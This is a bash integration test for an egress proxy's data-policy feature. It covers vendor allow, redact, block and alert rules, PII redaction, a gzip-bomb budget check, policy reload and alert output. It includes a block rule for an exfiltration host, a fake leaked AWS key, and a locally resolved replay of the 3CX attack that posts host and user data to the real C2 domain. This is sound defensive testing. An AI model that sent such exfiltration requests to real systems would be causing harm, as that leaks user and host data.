#!/usr/bin/env bash
# tollgate proxy --policy: the vendor register's verdicts (allow, alert, redact, block) seen by a
# real client (curl, raw sockets) and by a real upstream (a small echo server that answers with
# what it received), and in the store; alerts (unapproved data, first contact outside the
# register across a restart, volume) in the store, a JSON-lines file and syslog; SIGHUP reload
# on a live keep-alive connection; the client's package from an SBOM in the store.
source "$(dirname "$0")/lib/assert.sh"

skip_unless_tools curl python3 gzip

source "$(dirname "$0")/lib/servers.sh"
wait_log() { # wait_log FILE TEXT: until TEXT appears in FILE (10 s at most)
  local i
  for i in $(seq 200); do grep -qF "$2" "$1" 2>/dev/null && return 0; sleep 0.05; done
  return 1
}

# --- upstream: an echo server (answers with the request line, Content-Length and body) ------
ECHO_PORT=$(free_port)
cat >"$TMP/echo.py" <<'EOF'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def handle_one(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        te = self.headers.get("Transfer-Encoding", "")
        out = (f"{self.command} {self.path}\ncl={n} te={te}\n").encode() + body
        with open(sys.argv[2], "ab") as log:
            log.write(self.path.encode() + b" " + body + b"\n")
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_PUT = handle_one
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
EOF
python3 "$TMP/echo.py" "$ECHO_PORT" "$TMP/upstream.log" &
PIDS+=($!)
wait_port "$ECHO_PORT" || { echo "echo server did not start"; exit 1; }

# --- the vendor register --------------------------------------------------------------------
cat >"$TMP/policy.yaml" <<'EOF'
vendors:
  - name: Acme Analytics
    domains: [analytics.test, "*.analytics.test"]
    allowed: [email]
    owner: dpo@corp.test
    reviewed: 2026-01-15
    volume_threshold: 4KB
  - name: Pinned Bank
    domains: [bank.test]
    allowed: [personal]
    tls: passthrough
rules:
  - action: block
    domains: [exfil.test, "*.exfil.test"]
    reason: known exfiltration host
  - action: redact
    vendor: Acme Analytics
    classes: [credit_card, us_ssn]
  - action: block
    vendor: unlisted
    classes: [secret]
    reason: no secrets to unknown destinations
  - action: alert
    vendor: unlisted
    classes: [personal]
    reason: personal data to an unlisted destination
EOF

# --- the client's package, from an SBOM recorded in the store --------------------------------
# A root holding only curl's dpkg record (its status stanza and file list from this system):
# `tollgate sbom` makes the SBOM, `proxy --sbom` records which package owns /usr/bin/curl.
PKG=""
if [ -f /var/lib/dpkg/info/curl.list ]; then
  mkdir -p "$TMP/root/var/lib/dpkg/info"
  awk 'BEGIN{RS=""; ORS="\n\n"} /^Package: curl\n/' /var/lib/dpkg/status >"$TMP/root/var/lib/dpkg/status"
  cp /var/lib/dpkg/info/curl.list "$TMP/root/var/lib/dpkg/info/"
  run_rc "$TOLLGATE" sbom "$TMP/root" --format cyclonedx-json -o "$TMP/curl.cdx.json"
  expect_eq "$RC" 0 "sbom of curl's dpkg record"
  PKG=$(python3 -c 'import json,sys; print([c["purl"] for c in json.load(open(sys.argv[1]))["components"] if c["name"]=="curl"][0])' "$TMP/curl.cdx.json")
fi

STORE="sqlite:$TMP/tollgate.db"
run_rc "$TOLLGATE" db import --ioc "$TOLLGATE_SHARED_DATA/ioc/3cx-2023.csv" --store "$STORE" -q
expect_eq "$RC" 0 "db import --ioc (the published 3CX indicators)"
PROXY_PORT=$(free_port)
RES=()
for h in analytics.test api.analytics.test bank.test exfil.test other.test new.test \
  raw.githubusercontent.com akamaicontainer.com; do
  RES+=(--resolve "$h=127.0.0.1:$ECHO_PORT")
done
start_proxy() { # start_proxy EXTRA...: the proxy with the policy, logging to proxy.err
  "$TOLLGATE" proxy --listen "127.0.0.1:$PROXY_PORT" --store "$STORE" --policy "$TMP/policy.yaml" \
    "${RES[@]}" --alerts-file "$TMP/alerts.jsonl" --io-timeout 5 --idle-timeout 30 "$@" \
    2>>"$TMP/proxy.err" &
  PROXY_PID=$!
  PIDS+=($PROXY_PID)
  wait_port "$PROXY_PORT" || { echo "proxy did not start"; cat "$TMP/proxy.err"; exit 1; }
}
stop_proxy() {
  kill -TERM "$PROXY_PID"
  wait "$PROXY_PID" 2>/dev/null || true
}
SBOM_ARGS=()
[ -n "$PKG" ] && SBOM_ARGS=(--sbom "$TMP/curl.cdx.json")
start_proxy "${SBOM_ARGS[@]}"
X=(-x "http://127.0.0.1:$PROXY_PORT")

# allow: an approved class to its vendor.
run_rc curl -sS "${X[@]}" "http://analytics.test/collect?email=jane.doe%40example.com"
expect_contains "$OUT" "GET /collect?email=jane.doe%40example.com" "allow: request arrives unchanged"

# redact: card and SSN replaced before they leave (JSON body, form body, chunked body, query).
run_rc curl -sS "${X[@]}" "http://analytics.test/post" -H 'Content-Type: application/json' \
  -d '{"name":"Jane","card":"4111 1111 1111 1111","email":"jane@example.com"}'
expect_contains "$OUT" '"card":"[REDACTED]"' "redact: card replaced in a JSON body"
expect_contains "$OUT" '"email":"jane@example.com"' "redact: approved email left alone"
expect_eq "$(python3 -c 'import sys; t=sys.stdin.read(); l=t.split("\n",2); print(l[1].split()[0]=="cl=%d" % len(l[2].encode()))' < <(printf '%s' "$OUT"))" True "redact: Content-Length fixed"
expect_not_contains "$(cat "$TMP/upstream.log")" "4111 1111 1111 1111" "redact: the card never reached the vendor"
run_rc curl -sS "${X[@]}" "http://api.analytics.test/form" --data-urlencode 'ssn=536-22-1234' --data-urlencode 'q=hi'
expect_contains "$OUT" "ssn=[REDACTED]&q=hi" "redact: SSN replaced in a form body"
run_rc curl -sS "${X[@]}" "http://analytics.test/chunked" -H 'Transfer-Encoding: chunked' \
  -H 'Content-Type: text/plain' --data-binary 'pay with 4111-1111-1111-1111 today'
expect_contains "$OUT" "pay with [REDACTED] today" "redact: chunked body"
expect_contains "$OUT" "te=" "redact: re-framed with a Content-Length"
expect_not_contains "$OUT" "te=chunked" "redact: no longer chunked"
run_rc curl -sS "${X[@]}" "http://analytics.test/q?ssn=536-22-1234&x=1"
expect_contains "$OUT" "GET /q?ssn=%5BREDACTED%5D&x=1" "redact: SSN replaced in the query string"
# Inside a compressed body: decompressed, cut, compressed again; the vendor receives gzip.
printf '{"card":"4111 1111 1111 1111","n":1}' | gzip -c >"$TMP/card.gz"
run_rc curl -sS "${X[@]}" "http://analytics.test/gz" -H 'Content-Encoding: gzip' \
  -H 'Content-Type: application/json' --data-binary @"$TMP/card.gz" -o "$TMP/gz.out" -w '%{http_code}'
expect_eq "$OUT" 200 "redact inside gzip: forwarded"
expect_eq "$(python3 -c 'import gzip,sys; d=open(sys.argv[1],"rb").read().split(b"\n",2); print(d[1].split()[0].decode()=="cl=%d" % len(d[2]), gzip.decompress(d[2]).decode())' "$TMP/gz.out")" \
  'True {"card":"[REDACTED]","n":1}' "redact inside gzip: the vendor got gzip with the card cut out, Content-Length fixed"
# What cannot be decoded whole is blocked (fail closed), the 403 saying why.
run_rc curl -sS "${X[@]}" "http://analytics.test/stacked" -H 'Content-Encoding: gzip, br' \
  -H 'Content-Type: application/json' --data-binary @"$TMP/card.gz" -w '\n%{http_code}'
expect_contains "$OUT" "403" "stacked content encodings: blocked"
expect_contains "$OUT" "cannot be checked (unknown content encoding 'gzip, br')" "the 403 says why (stacked)"
head -c 20 "$TMP/card.gz" >"$TMP/card-cut.gz"
run_rc curl -sS "${X[@]}" "http://analytics.test/truncated" -H 'Content-Encoding: gzip' \
  -H 'Content-Type: application/json' --data-binary @"$TMP/card-cut.gz" -w '\n%{http_code}'
expect_contains "$OUT" "403" "a gzip body that does not decompress: blocked"
expect_contains "$OUT" "gzip: compressed data is truncated" "the 403 says why (truncated)"
# A small body that decompresses past what is classified per request (16 MiB): not checked,
# so blocked, instead of costing the proxy the CPU of classify's whole default budget.
python3 -c 'import gzip,sys; sys.stdout.buffer.write(gzip.compress(b" " * (17 << 20) + b"4111 1111 1111 1111"))' >"$TMP/bomb.gz"
run_rc curl -sS "${X[@]}" "http://analytics.test/bomb" -H 'Content-Encoding: gzip' \
  -H 'Content-Type: text/plain' --data-binary @"$TMP/bomb.gz" -w '\n%{http_code}'
expect_contains "$OUT" "403" "a gzip body past the decoded budget: blocked"
expect_contains "$OUT" "gzip: decoded size exceeds 16777216" "the 403 says why (budget)"

# A held body is read as a streamed one is: a malformed chunk gets 400, a client that vanishes
# mid-body ends only its own request (recorded in its flow, checked below).
BAD=$(python3 - "$PROXY_PORT" <<'EOF'
import socket, sys
port = int(sys.argv[1])
s = socket.create_connection(("127.0.0.1", port), 5)
s.sendall(b"POST http://analytics.test/badchunk HTTP/1.1\r\nHost: analytics.test\r\n"
          b"Transfer-Encoding: chunked\r\n\r\n5\r\nabcde\r\nzz\r\n")
s.settimeout(5)
print(s.recv(4096).split(b"\r\n")[0].decode())
s = socket.create_connection(("127.0.0.1", port), 5)
s.sendall(b"POST http://analytics.test/vanished HTTP/1.1\r\nHost: analytics.test\r\n"
          b"Content-Length: 100000\r\n\r\nonly this")
s.close()
EOF
)
expect_eq "$BAD" "HTTP/1.1 400 Bad Request" "a malformed chunked body held for a rule: 400"

# block: a listed host (plain HTTP and CONNECT), and secrets to an unlisted destination.
run_rc curl -sS "${X[@]}" "http://exfil.test/upload" -w '\n%{http_code}'
expect_contains "$OUT" "tollgate: blocked by policy: known exfiltration host" "block: reason in the body"
expect_contains "$OUT" "403" "block: HTTP 403"
run_rc curl -sS "${X[@]}" "https://x.exfil.test/" -o /dev/null
expect_eq "$RC" 56 "block: CONNECT refused (curl: tunnel failed)"
expect_contains "$ERR" "403" "block: the CONNECT got 403"
BEFORE=$(wc -l <"$TMP/upstream.log")
run_rc curl -sS "${X[@]}" "http://other.test/paste" -d 'key=AKIAZ7VRSQ5KJX4EXAMP' -w '\n%{http_code}'
expect_contains "$OUT" "no secrets to unknown destinations" "block on a data class"
expect_eq "$(wc -l <"$TMP/upstream.log")" "$BEFORE" "block: nothing reached the upstream"

# A body a class rule would have to see, larger than max_hold_bytes (1 MiB): refused, not passed
# unchecked.
head -c 1500000 /dev/zero | tr '\0' x >"$TMP/1500k"
run_rc curl -sS "${X[@]}" "http://other.test/big" --data-binary @"$TMP/1500k" -o /dev/null -w '%{http_code}'
expect_eq "$OUT" 413 "a body over max_hold_bytes under a class rule: 413"

# alert: personal data to an unlisted destination passes, with an alert.
run_rc curl -sS "${X[@]}" "http://other.test/contact" -d 'email=jane.doe@example.com' -w '\n%{http_code}'
expect_contains "$OUT" "200" "alert: request passes"
run_rc curl -sS "${X[@]}" "http://other.test/again" -o /dev/null -w '%{http_code}'
expect_eq "$OUT" 200 "second contact with other.test"

# The 3CX pattern under the register: an .ico fetched through a tunnel from a code-hosting host,
# then host data posted to the C2 domain; neither is a vendor.
curl -sS "${X[@]}" -o /dev/null "https://raw.githubusercontent.com/IconStorages/images/main/icon1.ico" 2>/dev/null || true
curl -sS "${X[@]}" -o /dev/null "http://akamaicontainer.com/post" --data-urlencode "hostname=WIN-DESKTOP-7" \
  --data-urlencode "user=jdoe" --data-urlencode "os=Microsoft Windows [Version 10.0.19045.2604]"

# volume: over 4 KB to one vendor within its window.
head -c 3000 /dev/zero | tr '\0' x >"$TMP/3k"
curl -sS "${X[@]}" -o /dev/null "http://analytics.test/bulk" --data-binary @"$TMP/3k"
curl -sS "${X[@]}" -o /dev/null "http://analytics.test/bulk" --data-binary @"$TMP/3k"

# SIGHUP on a live keep-alive connection: a request before, a reload, a request after on the
# same connection; then a broken file on reload keeps the policy in force.
HUP=$(python3 - "$PROXY_PORT" "$PROXY_PID" "$TMP/policy.yaml" "$TMP/proxy.err" <<'EOF'
import os, signal, socket, sys, time
port, pid, policy, log = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
s = socket.create_connection(("127.0.0.1", port), 5)
f = s.makefile("rb")
def ask(path):
    s.sendall(f"GET http://bank.test{path} HTTP/1.1\r\nHost: bank.test\r\n\r\n".encode())
    status = f.readline().split()[1].decode()
    n = 0
    while True:
        line = f.readline().strip()
        if not line: break
        k, _, v = line.partition(b":")
        if k.lower() == b"content-length": n = int(v)
    f.read(n)
    return status
def wait_for(text):
    for _ in range(200):
        if text in open(log).read(): return
        time.sleep(0.05)
    raise SystemExit("no log line: " + text)
first = ask("/one")
with open(policy, "a") as p:
    p.write("  - action: block\n    vendor: Pinned Bank\n    reason: bank frozen\n")
# the new rule must come first: rewrite with it at the top of the rules
text = open(policy).read()
head, rules = text.split("rules:\n")
rules = rules.replace("  - action: block\n    vendor: Pinned Bank\n    reason: bank frozen\n", "")
open(policy, "w").write(head + "rules:\n  - action: block\n    vendor: Pinned Bank\n    reason: bank frozen\n" + rules)
os.kill(pid, signal.SIGHUP)
wait_for("policy reloaded from")
second = ask("/two")
open(policy + ".good", "w").write(open(policy).read())
open(policy, "w").write("vendors:\n  - name: Broken\n    domains: [x.test]\n    colour: red\n")
os.kill(pid, signal.SIGHUP)
wait_for("policy reload failed")
third = ask("/three")
print(first, second, third)
EOF
)
expect_eq "$HUP" "200 403 403" "SIGHUP: same connection, new policy on the next request, bad reload keeps it"
expect_contains "$(cat "$TMP/proxy.err")" "policy reload failed, keeping the previous policy: $TMP/policy.yaml:4: unknown field 'colour'" "bad reload: one line naming file:line"
expect_eq "$(grep -c 'policy reload failed' "$TMP/proxy.err")" 1 "bad reload: exactly one line"
cp "$TMP/policy.yaml.good" "$TMP/policy.yaml"

# Proxy-Authorization user as the application when the process is unknown.
stop_proxy
start_proxy --no-process
curl -sS "${X[@]}" --proxy-user alice:secret -o /dev/null "http://other.test/from-alice"
# first contact is remembered across restarts: other.test again (no alert), new.test (alert).
run_rc curl -sS "${X[@]}" -o /dev/null -w '%{http_code}' "http://new.test/hello"
stop_proxy
start_proxy
curl -sS "${X[@]}" -o /dev/null "http://other.test/after-restart"
stop_proxy

# --- what the store says --------------------------------------------------------------------
run_rc "$TOLLGATE" flows --store "$STORE" --format json
expect_eq "$RC" 0 "flows --format json"
FLOWS="$OUT"
q() { python3 -c "import json,sys; fl=json.load(sys.stdin)['flows']; $1" <<<"$FLOWS"; }
verdict() { q "print(','.join(f['verdict'] for f in fl if f['url'].endswith('$1') or f['url'].startswith('$1')))"; }
expect_eq "$(verdict '/collect?email=jane.doe%40example.com')" allow "store: allow"
expect_eq "$(verdict 'http://analytics.test/post')" redact "store: redact (JSON)"
expect_eq "$(verdict 'http://analytics.test/q?ssn=%5BREDACTED%5D&x=1')" redact "store: redacted URL recorded, not the value"
expect_eq "$(verdict 'http://analytics.test/gz')" redact "store: redacted inside gzip"
expect_eq "$(verdict 'http://analytics.test/stacked'),$(verdict 'http://analytics.test/truncated')" block,block "store: undecodable bodies blocked"
expect_eq "$(q "print(sorted(f.get('error','')[:25] for f in fl if f['url'] in ('http://analytics.test/badchunk', 'http://analytics.test/vanished')))")" \
  "['bad request body: bad chu', 'client vanished mid-body:']" "store: the held body's malformed chunk and vanished client"
expect_eq "$(verdict 'http://exfil.test/upload')" block "store: block (HTTP)"
expect_eq "$(q "print([f['verdict'] for f in fl if f['kind']=='connect' and f['host']=='x.exfil.test'])")" "['block']" "store: block (CONNECT)"
expect_eq "$(verdict 'http://other.test/paste')" block "store: block on a class"
expect_eq "$(verdict 'http://other.test/contact')" alert "store: alert"
expect_eq "$(verdict 'http://other.test/big')" block "store: oversized held body marked block"
run_rc "$TOLLGATE" flows --store "$STORE" --vendor "Acme Analytics"
expect_contains "$OUT" "vendor: Acme Analytics" "flows table shows the vendor"
expect_eq "$(q "print(sorted(set(f.get('vendor','') for f in fl if 'analytics.test' in f['host'])))")" "['Acme Analytics']" "store: vendor on the flows"
run_rc "$TOLLGATE" flows --store "$STORE" --vendor "Acme Analytics" --format json
expect_eq "$(python3 -c 'import json,sys; fl=json.load(sys.stdin)["flows"]; print(len(fl) >= 8 and all(f["vendor"]=="Acme Analytics" for f in fl))' <<<"$OUT")" True "flows --vendor"
run_rc "$TOLLGATE" flows --store "$STORE" --app alice --format json
expect_eq "$(python3 -c 'import json,sys; fl=json.load(sys.stdin)["flows"]; print([(f["user"], f["url"]) for f in fl])' <<<"$OUT")" \
  "[('alice', 'http://other.test/from-alice')]" "flows --app USER (Proxy-Authorization fallback)"
if [ -n "$PKG" ]; then
  expect_eq "$(q "print(all(f.get('package')=='$PKG' for f in fl if f.get('exe','').endswith('/curl')))")" True "flows carry the package of /usr/bin/curl ($PKG)"
  run_rc "$TOLLGATE" flows --store "$STORE" --app "${PKG%%@*}" --format json
  expect_eq "$(python3 -c 'import json,sys; print(len(json.load(sys.stdin)["flows"]) > 10)' <<<"$OUT")" True "flows --app PURL"
fi

run_rc "$TOLLGATE" alerts --store "$STORE" --format json
ALERTS="$OUT"
# The same alerts as SARIF, and as a gate: critical ones (the indicator hit) fail --fail-on high.
run_rc "$TOLLGATE" alerts --store "$STORE" --format sarif --fail-on high
expect_eq "$RC" 1 "alerts --fail-on high: exit 1 with a critical alert"
expect_eq "$(python3 -c 'import json,sys; d=json.load(sys.stdin); print(sorted({r["ruleId"] for r in d["runs"][0]["results"]}) == sorted({f["id"] for f in json.loads(sys.argv[1])["findings"]}))' "$ALERTS" <<<"$OUT")" True \
  "alerts SARIF: one result per alert kind of the JSON"
a() { python3 -c "import json,sys; d=json.load(sys.stdin)['findings']; $1" <<<"$ALERTS"; }
expect_eq "$(a "print(sorted(set(f['id'] for f in d)))")" \
  "['egress-ioc-domain', 'egress-policy-alert', 'egress-policy-block', 'egress-policy-redact', 'egress-unapproved-data', 'egress-unlisted-destination', 'egress-vendor-volume']" \
  "alert kinds"
expect_eq "$(a "import re; print(all(re.fullmatch(r'\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ', f['evidence']['time']) for f in d), sum('flow' in f['evidence'] for f in d) > 0)")" \
  "True True" "alerts JSON: each alert says when it was raised, and on which flow"
expect_eq "$(a "print(sorted(set(k for f in d if f['id']=='egress-unapproved-data' for k in f['evidence']['classes'])))")" \
  "['credit_card', 'us_ssn']" "unapproved data: card and SSN to a vendor approved for email only"
UNL=$(a "print(sorted(f['evidence']['host']+'/'+f['evidence']['app'] for f in d if f['id']=='egress-unlisted-destination'))")
echo "unlisted first contacts: $UNL"
expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-unlisted-destination' and f['evidence']['host']=='other.test' and f['evidence']['app']!='alice'))")" 1 \
  "first contact other.test: one alert for curl, none after the restart"
expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-unlisted-destination' and f['evidence']['app']=='alice'))")" 1 "first contact per application: alice too"
expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-unlisted-destination' and f['evidence']['host']=='new.test'))")" 1 "new destination after the restart: alerted"
expect_eq "$(a "print(sorted(f['id'] for f in d if f['evidence'].get('host') in ('raw.githubusercontent.com', 'akamaicontainer.com')))")" \
  "['egress-ioc-domain', 'egress-unlisted-destination', 'egress-unlisted-destination']" \
  "3CX replay: first contact with both hosts outside the register, the C2 domain a critical indicator"
expect_eq "$(a "print(sorted(next(f for f in d if f['id']=='egress-ioc-domain')['evidence']['classes']))")" \
  "['hostname', 'os_build', 'username']" "3CX replay: the host data sent to the C2 domain"
expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-vendor-volume'))")" 1 "volume: one alert when the window total passes 4 KB"
expect_eq "$(a "print(any(f['id']=='egress-policy-block' and f['severity']=='high' and f['evidence']['reason']=='known exfiltration host' for f in d))")" True "block alert with the reason"
expect_eq "$(a "print(sorted(f['evidence']['reason'].split(' (')[0] for f in d if f['id']=='egress-policy-block' and f['evidence']['rule_line'] is None))")" \
  "['request body cannot be checked', 'request body cannot be checked', 'request body cannot be checked', \"request body over the policy's max_hold_bytes\"]" \
  "a held body refused unchecked (stacked, truncated, past the budget, too large) raises a block alert without a rule"

# The JSON-lines alert file holds the same alerts.
expect_eq "$(python3 -c 'import json,sys; print(sorted(set(json.loads(l)["id"] for l in open(sys.argv[1]))))' "$TMP/alerts.jsonl")" \
  "$(a "print(sorted(set(f['id'] for f in d)))")" "--alerts-file: the same alerts, one JSON object per line"
expect_eq "$(wc -l <"$TMP/alerts.jsonl")" "$(a 'print(len(d))')" "--alerts-file: one line per alert"

# --- syslog(3): a receiver on the log socket ---------------------------------------------------
# The proxy runs in its own mount namespace whose /dev holds `log`, a datagram socket served by
# a receiver here (glibc's syslog(3) writes to /dev/log).
if unshare -m true 2>/dev/null; then
  python3 - "$TMP/log.sock" "$TMP/syslog.txt" <<'EOF' &
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.bind(sys.argv[1])
with open(sys.argv[2], "ab", buffering=0) as out:
    while True:
        out.write(s.recv(65536) + b"\n")
EOF
  PIDS+=($!)
  for _ in $(seq 100); do [ -S "$TMP/log.sock" ] && break; sleep 0.05; done
  mkdir -p "$TMP/realdev"
  SYS_PORT=$(free_port)
  unshare -m sh -c '
    mount --make-rprivate / && mount --rbind /dev "$1/realdev" && mount -t tmpfs none /dev &&
    for d in null zero random urandom; do ln -s "$1/realdev/$d" /dev/$d; done &&
    ln -s "$1/log.sock" /dev/log && shift && exec "$@"' sh "$TMP" \
    "$TOLLGATE" proxy --listen "127.0.0.1:$SYS_PORT" --store "$STORE" --policy "$TMP/policy.yaml" \
    "${RES[@]}" --alerts-syslog 2>"$TMP/proxy-syslog.err" &
  SYS_PID=$!
  PIDS+=($SYS_PID)
  wait_port "$SYS_PORT" || { echo "syslog proxy did not start"; cat "$TMP/proxy-syslog.err"; }
  curl -sS -x "http://127.0.0.1:$SYS_PORT" -o /dev/null "http://exfil.test/syslog-check" || true
  kill -TERM "$SYS_PID"; wait "$SYS_PID" 2>/dev/null || true
  wait_log "$TMP/syslog.txt" "egress-policy-block" || true
  SL=$(cat "$TMP/syslog.txt" 2>/dev/null || true)
  expect_contains "$SL" "tollgate-proxy[" "syslog: ident and pid"
  expect_contains "$SL" '"id":"egress-policy-block"' "syslog: the alert as JSON"
  expect_contains "$SL" "<27>" "syslog: facility daemon, priority err for a high alert"
else
  echo "note: no mount namespaces here: syslog check skipped"
fi

# --- bad policy files ---------------------------------------------------------------------------
printf 'vendors:\n  - name: A\n    domains: [a.test]\n    allowed: [emial]\n' >"$TMP/bad.yaml"
run_rc "$TOLLGATE" proxy --listen 127.0.0.1:0 --store "$STORE" --policy "$TMP/bad.yaml"
expect_eq "$RC" 2 "bad policy: exit 2"
expect_eq "$ERR" "tollgate: $TMP/bad.yaml:4: unknown data class 'emial'" "bad policy: one line naming file:line"
run_rc "$TOLLGATE" proxy --listen 127.0.0.1:0 --store "$STORE" --policy "$TMP/missing.yaml"
expect_eq "$RC" 2 "missing policy: exit 2"

finish
